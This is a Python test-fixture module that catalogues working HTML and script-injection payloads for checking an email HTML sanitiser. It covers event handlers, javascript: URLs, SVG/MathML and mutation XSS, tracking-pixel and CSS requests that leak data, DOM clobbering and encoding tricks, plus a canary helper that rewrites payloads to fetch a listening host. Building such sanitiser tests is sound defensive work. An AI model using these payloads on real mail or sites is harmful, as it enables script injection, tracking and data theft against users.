"""HTML that somebody puts into a mail so that it runs, calls home, or takes over the page that shows it.

`«ran»` stands for a script by which it would be known to run, `«url»` for an address whose owner would know of it. Each was
written for its way in; `live` says whether it works in today's browsers when nobody sanitises it, so that a test can see
that it would see it.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

RAN = "«ran»"
URL = "«url»"
TRUSTED = "trusted"
"""The id or name by which an element would stand for something of the page."""


@dataclass(frozen=True)
class Vector:
    family: str
    name: str
    html: str
    live: bool = True

    @property
    def title(self) -> str:
        return f"{self.family}: {self.name}"

    def with_canary(self, host: str, place: str) -> str:
        """`host` listens by HTTP; `place` is where there it is told."""
        return (
            self.html.replace(RAN, f"fetch(`http://{host}/ran/{place}`)")
            .replace(URL, f"http://{host}/left/{place}")
            .replace("«url-without-scheme»", f"//{host}/left/{place}")
            .replace("«url-with-back-slashes»", f"http:\\\\{host}\\left/{place}")
        )


HANDLERS = {
    "an image that is not there": '<img src="x:" onerror="«ran»">',
    "without quotes": "<img src=x: onerror=«ran»>",
    "with slashes for spaces": "<img/src='x:'/onerror=«ran»>",
    "with a form feed for a space": "<img\x0csrc=x:\x0conerror=«ran»>",
    "in capitals": "<IMG SRC=x: ONERROR=«ran»>",
    "after a quote left open": '<img """ src=x: onerror=«ran» x=">',
    "after the end of an attribute": '<b title=""><img src=x: onerror=«ran»>">x</b>',
    "never closed": "<img src=x: onerror=«ran» ",
    "an image that is there": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="«ran»" onerror="«ran»">',
    "of the body": "<body onload=«ran»>",
    "of a second body": "<p>x<body onpageshow=«ran»>",
    "details that are open": "<details open ontoggle=«ran»>x</details>",
    "a field with the focus": "<input autofocus onfocus=«ran»>",
    "a list with the focus": "<select autofocus onfocus=«ran»><option>x</select>",
    "a text field with the focus": "<textarea autofocus onfocus=«ran»>x</textarea>",
    "what can be edited": "<div contenteditable tabindex=1 autofocus onfocus=«ran»>x</div>",
    "an element that nobody knows": "<x-y tabindex=1 autofocus onfocus=«ran»>x</x-y>",
    "a click": "<div onclick=«ran»>x</div>",
    "a mouse that passes": "<b onmouseover=«ran»>x</b>",
    "a pointer that passes": "<i onpointerenter=«ran»>x</i>",
    "a sound": "<audio src=x: onerror=«ran»></audio>",
    "a film": "<video><source src=x: onerror=«ran»></video>",
    "a marquee": "<marquee width=1 loop=1 onfinish=«ran» onstart=«ran»>x</marquee>",
    "a frame": "<iframe onload=«ran»></iframe>",
    "a style": "<style onload=«ran»>x{}</style>",
    "a style sheet": "<link rel=stylesheet href=data:text/css,x onload=«ran»>",
    "an animation": "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=«ran»>x</p>",
    "a form": "<form onsubmit=«ran»><button>x</button></form>",
    "an object": "<object data=x: onerror=«ran»></object>",
    "a no-break space before it": "<img src=x:\xa0onerror=«ran» onerror=«ran»>",
    "twice": "<img src=x: onerror=x onerror=«ran»>",
}
SCRIPTS = {
    "plain": "<script>«ran»</script>",
    "within itself": "<scr<script>ipt>«ran»</script>",
    "with a slash": "<script/x>«ran»</script>",
    "closed oddly": "<script>«ran»</script\t\n x>",
    "never closed": "<script>«ran»\n//",
    "a module": "<script type=module>«ran»</script>",
    "from elsewhere": "<script src=«url»></script>",
    "from its own address": '<script src="data:text/javascript,«ran»"></script>',
    "after a comment that is none": "<!--><script>«ran»</script>-->",
    "after a comment that ends with a bang": "<!-- --!><script>«ran»</script> -->",
    "after a processing instruction": "<?xml ><script>«ran»</script>?>",
    "after CDATA that is none": "<![CDATA[><script>«ran»</script>]]>",
    "after a document type": "<!DOCTYPE x ><script>«ran»</script>",
    "after a tag that ends nothing": "</x><script>«ran»</script>",
}
SVG = {
    "onload": "<svg onload=«ran»></svg>",
    "without a space": "<svg/onload=«ran»>",
    "a script": "<svg><script>«ran»</script></svg>",
    "a script with character references": "<svg><script>&#102;etch(`«url»`)</script></svg>",
    "an animation": "<svg><animate onbegin=«ran» attributeName=x dur=1s></svg>",
    "a link": '<svg><a xlink:href="javascript:«ran»"><text y=20>x</text></a></svg>',
    "a link that is set": '<svg><a><set attributeName=href to="javascript:«ran»"/><text y=20>x</text></a></svg>',
    "a link that is animated": '<svg><a><animate attributeName=href values="javascript:«ran»"/><text y=20>x</text></a></svg>',
    "a foreign object": "<svg><foreignObject><img src=x: onerror=«ran»></foreignObject></svg>",
    "a style": "<svg><style><img src=x: onerror=«ran»></style></svg>",
    "a title": "<svg><title><img src=x: onerror=«ran»></title></svg>",
    "CDATA": "<svg><![CDATA[</svg>]]><image href=x: onerror=«ran»></svg>",
    "an image": "<svg><image href=«url» /></svg>",
    "a filter's image": "<svg width=9 height=9><filter id=f><feImage href=«url» /></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "a use": "<svg><use href='«url»#x'/></svg>",
}
MATH = {
    "what holds HTML": "<math><mtext><img src=x: onerror=«ran»></mtext></math>",
    "an annotation": '<math><annotation-xml encoding="text/html"><img src=x: onerror=«ran»></annotation-xml></math>',
    "a style": "<math><style><img src=x: onerror=«ran»></style></math>",
    "a link": '<math href="javascript:«ran»"><mi>x</mi></math>',
    "a style in a glyph": "<math><mtext><table><mglyph><style><img src=x: onerror=«ran»></style></mglyph></table></mtext></math>",
}
MUTATION = {
    "noscript": '<noscript><p title="</noscript><img src=x: onerror=«ran»>"></noscript>',
    "noembed": '<noembed><p title="</noembed><img src=x: onerror=«ran»>"></noembed>',
    "noframes": '<noframes><p title="</noframes><img src=x: onerror=«ran»>"></noframes>',
    "xmp": '<xmp><p title="</xmp><img src=x: onerror=«ran»>"></xmp>',
    "a text field": '<textarea><p title="</textarea><img src=x: onerror=«ran»>"></textarea>',
    "a title": '<title><p title="</title><img src=x: onerror=«ran»>"></title>',
    "a style": '<style><p title="</style><img src=x: onerror=«ran»>"></style>',
    "a frame's content": '<iframe><p title="</iframe><img src=x: onerror=«ran»>"></iframe>',
    "a style in SVG": '<svg></p><style><a id="</style><img src=x: onerror=«ran»>">',
    "a glyph": "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=«ran»>",
    "a comment in a glyph's style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=«ran»&gt;">',
    "a table in a form": "<form><math><mtext><form></form></mtext><mi><style><img src=x: onerror=«ran»>",
    "in front of a table": "<table><img src=x: onerror=«ran»><tr><td>x</table>",
    "a select": "<select><option><style></select><img src=x: onerror=«ran»></style>",
    "a template": "<template><s><template><s><img src=x: onerror=«ran»></template></template>",
    "a caption": "<svg><caption><table><caption><style><img src=x: onerror=«ran»></style>",
    "a comment in an attribute": '<!-- <img title="--><img src=x: onerror=«ran»>"> -->',
    "nested links": '<a><svg><a title="</a></svg><img src=x: onerror=«ran»>">x',
    "plaintext": "<plaintext><img src=x: onerror=«ran»>",
    "escaped in a listing": "<listing>&lt;img src=x: onerror=«ran»&gt;</listing>",
    "deep": "<div>" * 520 + "<svg><style><img src=x: onerror=«ran»></style></svg>" + "</div>" * 520,
}
URLS = {
    "javascript": '<a href="javascript:«ran»">x</a>',
    "in capitals": '<a href="JaVaScRiPt:«ran»">x</a>',
    "a space before": '<a href=" \t\n javascript:«ran»">x</a>',
    "a control character before": '<a href="&#1;javascript:«ran»">x</a>',
    "a tab within": '<a href="java&#x09;script:«ran»">x</a>',
    "a line break within": '<a href="java&NewLine;script&colon;«ran»">x</a>',
    "all as character references": '<a href="&#106;&#0000097&#x76;&#x61;script:«ran»">x</a>',
    "as a comment of its own": '<a href="javascript://x.example/%0a«ran»">x</a>',
    "of an area": '<map name=m><area href="javascript:«ran»"></map>',
    "of a frame": '<iframe src="javascript:«ran»"></iframe>',
    "of a form": '<form action="javascript:«ran»"><button>x</button></form>',
    "of a button": '<form><button type=submit formaction="javascript:«ran»">x</button></form>',
    "of a button as an image": '<form><input type=image src=x: formaction="javascript:«ran»"></form>',
    "of an object": '<object data="data:text/html,<script>«ran»</script>"></object>',
    "of what is embedded": "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>«ran»</script></svg>\">",
    "a page as an address, framed": '<iframe src="data:text/html,<script>«ran»</script>"></iframe>',
    "a page as an address, linked": '<a href="data:text/html,<script>«ran»</script>">x</a>',
    "a page in an attribute": '<iframe srcdoc="<script>«ran»</script>"></iframe>',
    "a page in an attribute, escaped": "<iframe srcdoc='&lt;img src=x: onerror=«ran»&gt;'></iframe>",
    "a frame set": '<frameset><frame src="javascript:«ran»"></frameset>',
    "full-width letters": '<a href="\uff4aavascript:«ran»">x</a>',
    "a null within": '<a href="java\x00script:«ran»">x</a>',
    "Visual Basic": '<a href="vbscript:«ran»">x</a>',
    "with a base": '<base href="javascript:/"><a href="«ran»">x</a>',
    "refreshed": '<meta http-equiv=refresh content="0;url=javascript:«ran»">',
}
LEAVES = {
    "an image": "<img src=«url»>",
    "an image of one pixel": '<img src="«url»" width=1 height=1 style="display:none">',
    "an image for another density": '<img srcset="«url» 1x">',
    "a picture": "<picture><source srcset=«url»><img></picture>",
    "an address without a scheme": "<img src=«url-without-scheme»>",
    "with back slashes": "<img src=«url-with-back-slashes»>",
    "a button": "<input type=image src=«url»>",
    "a film": "<video src=«url»></video>",
    "a film's poster": "<video poster=«url»></video>",
    "a sound": "<audio src=«url» preload=auto></audio>",
    "subtitles": "<video src=«url»><track default kind=subtitles src=«url»></video>",
    "an object": "<object data=«url»></object>",
    "what is embedded": "<embed src=«url»>",
    "a frame": "<iframe src=«url»></iframe>",
    "a style sheet": "<link rel=stylesheet href=«url»>",
    "what is loaded before": "<link rel=preload as=image href=«url»>",
    "what may be loaded next": "<link rel=prefetch href=«url»>",
    "an icon": "<link rel=icon href=«url»>",
    "a module": "<link rel=modulepreload href=«url»>",
    "a refresh": '<meta http-equiv=refresh content="0;url=«url»">',
    "a background": "<body background=«url»>",
    "a table's background": "<table background=«url»><tr><td>x</table>",
    "a cell's background": "<table><tr><td background=«url»>x</table>",
    "a form": "<form action=«url»><button>x</button></form>",
    "a form with the password": "<form action=«url» method=post><input name=password value=x><button>x</button></form>",
    "a button elsewhere": "<button form=f formaction=«url»>x</button><form id=f></form>",
    "a link that tells": '<a href="javascript:void 0" ping="«url»">x</a>',
    "a base and what stands on it": '<base href="«url»/"><img src=x>',
    "an old attribute": "<img lowsrc=«url» dynsrc=«url»>",
    "a page in an attribute": '<iframe srcdoc="<img src=«url»>"></iframe>',
    "what is left open, with the rest of the page": "<img src='«url»?",
}
STYLES = {
    "a background": '<p style="background:url(«url»)">x</p>',
    "a background, quoted": "<p style='background:url(\"«url»\")'>x</p>",
    "a background, escaped": '<p style="background:\\75 rl(«url»)">x</p>',
    "a background, with a comment": '<p style="background:/*;*/url(«url»)">x</p>',
    "one image of a set": "<p style=\"background:image-set('«url»' 1x)\">x</p>",
    "a bullet": '<ul><li style="list-style-image:url(«url»)">x</ul>',
    "what stands before": "<style>p::before{content:url(«url»)}</style><p>x</p>",
    "a cursor": '<p style="cursor:url(«url»),auto">x</p>',
    "a border": '<p style="border:9px solid;border-image:url(«url») 9">x</p>',
    "a mask": '<p style="-webkit-mask:url(«url»)">x</p>',
    "a property of its own": '<p style="--x:url(«url»);background:var(--x)">x</p>',
    "a sheet": "<style>p{background:url(«url»)}</style><p>x</p>",
    "a sheet that imports": "<style>@import '«url»';</style>",
    "a sheet in SVG": "<svg><style>@import '«url»';</style></svg>",
    "a font": "<style>@font-face{font-family:x;src:url(«url»)}p{font-family:x}</style><p>x</p>",
    "a page's content, letter by letter": "<input name=t value=abc><style>input[value^=a]{background:url(«url»)}</style>",
    "an expression": '<p style="width:expression(«ran»)">x</p>',
    "a behaviour": '<p style="behavior:url(«url»)">x</p>',
    "a binding": '<p style="-moz-binding:url(«url»)">x</p>',
    "a script as an address": "<p style=\"background:url('javascript:«ran»')\">x</p>",
}
COVERS = {
    "the whole page": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</div>",
    "by a sheet": "<style>div{position:fixed;top:0;left:0}</style><div>x</div>",
    "by being absolute": "<a href='https://x.example/' style='position:absolute;inset:0'>x</a>",
    "by a dialogue": "<dialog open>x</dialog>",
}
CLOBBERS = {
    "an id": "<a id=trusted href=x:>x</a>",
    "a name": "<img name=trusted>",
    "a form": "<form id=trusted><input name=value></form>",
    "a collection": "<a id=trusted>x</a><a id=trusted name=value href=x:>x</a>",
    "a frame": "<iframe name=trusted srcdoc='x'></iframe>",
    "an object": "<object id=trusted></object>",
}
BREAKS_OUT = {
    "by closing": "</p></div></body></html><img src=x: onerror=«ran»>",
    "a comment left open": "<!-- x",
    "a text field left open": "<textarea>x",
    "plaintext": "<plaintext>x",
    "a style left open": "<style>x",
    "a script left open": "<script>x",
    "a title left open": "<title>x",
    "a template left open": "<template>x",
    "an attribute left open": "<a title='x",
    "a tag left open": "<a ",
    "a link around the rest": "<a href='https://x.example/'>x",
}
SHADOWS = {
    "open": "<div><template shadowrootmode=open><img src=x: onerror=«ran»></template></div>",
    "closed": "<div><template shadowrootmode=closed><img src=x: onerror=«ran»></template></div>",
    "a style of its host": "<div><template shadowrootmode=open><style>:host{background:url(«url»)}</style>x</template></div>",
}
SPELLINGS = {
    "a null in the name": "<scr\x00ipt>«ran»</script>",
    "a null before the name": "<\x00script>«ran»</script>",
    "a null in a handler": "<img src=x: on\x00error=«ran»>",
    "UTF-7": "<meta charset=utf-7>+ADw-script+AD4-«ran»+ADw-/script+AD4-",
    "the escape of ISO-2022-JP": '<meta charset=iso-2022-jp><a title="\x1b$B">\x1b(B<img src=x: onerror=«ran» title="">',
    "angle brackets of full width": "\uff1cscript\uff1e«ran»\uff1c/script\uff1e",
    "a line separator": "<img src=x: onerror=\u2028«ran»>",
    "character references for tags": "&lt;script&gt;«ran»&lt;/script&gt;",
    "character references twice": "&amp;lt;img src=x: onerror=«ran»&amp;gt;",
    "a dotless i": "<scr\u0131pt>«ran»</scr\u0131pt>",
    "a long s": "<\u017fcript>«ran»</\u017fcript>",
}

_FAMILIES = {
    "event handlers": HANDLERS,
    "scripts": SCRIPTS,
    "SVG": SVG,
    "MathML": MATH,
    "mutation": MUTATION,
    "URLs": URLS,
    "requests": LEAVES,
    "styles": STYLES,
    "covering the page": COVERS,
    "clobbering": CLOBBERS,
    "breaking out": BREAKS_OUT,
    "shadow roots": SHADOWS,
    "spellings": SPELLINGS,
}

DEAD = frozenset(
    {
        "event handlers: with slashes for spaces",
        "event handlers: a marquee",
        "event handlers: an object",
        "event handlers: twice",
        "scripts: within itself",
        "SVG: a use",
        "MathML: a link",
        "mutation: a template",
        "mutation: nested links",
        "mutation: escaped in a listing",
        "URLs: of a button",
        "URLs: of a button as an image",
        "URLs: a frame set",
        "URLs: full-width letters",
        "URLs: a null within",
        "URLs: Visual Basic",
        "URLs: with a base",
        "URLs: refreshed",
        "requests: an icon",
        "requests: a button elsewhere",
        "requests: an old attribute",
        "styles: an expression",
        "styles: a behaviour",
        "styles: a binding",
        "styles: a script as an address",
        "spellings: a null in the name",
        "spellings: a null before the name",
        "spellings: a null in a handler",
        "spellings: UTF-7",
        "spellings: angle brackets of full width",
        "spellings: character references for tags",
        "spellings: character references twice",
        "spellings: a dotless i",
        "spellings: a long s",
    }
)
"""Ways in that today's browsers have closed, or that need another page: they must stay closed here all the same."""


def _vectors() -> Iterator[Vector]:
    for family, written in _FAMILIES.items():
        for name, html in written.items():
            yield Vector(family, name, html, live=f"{family}: {name}" not in DEAD)


VECTORS = tuple(_vectors())
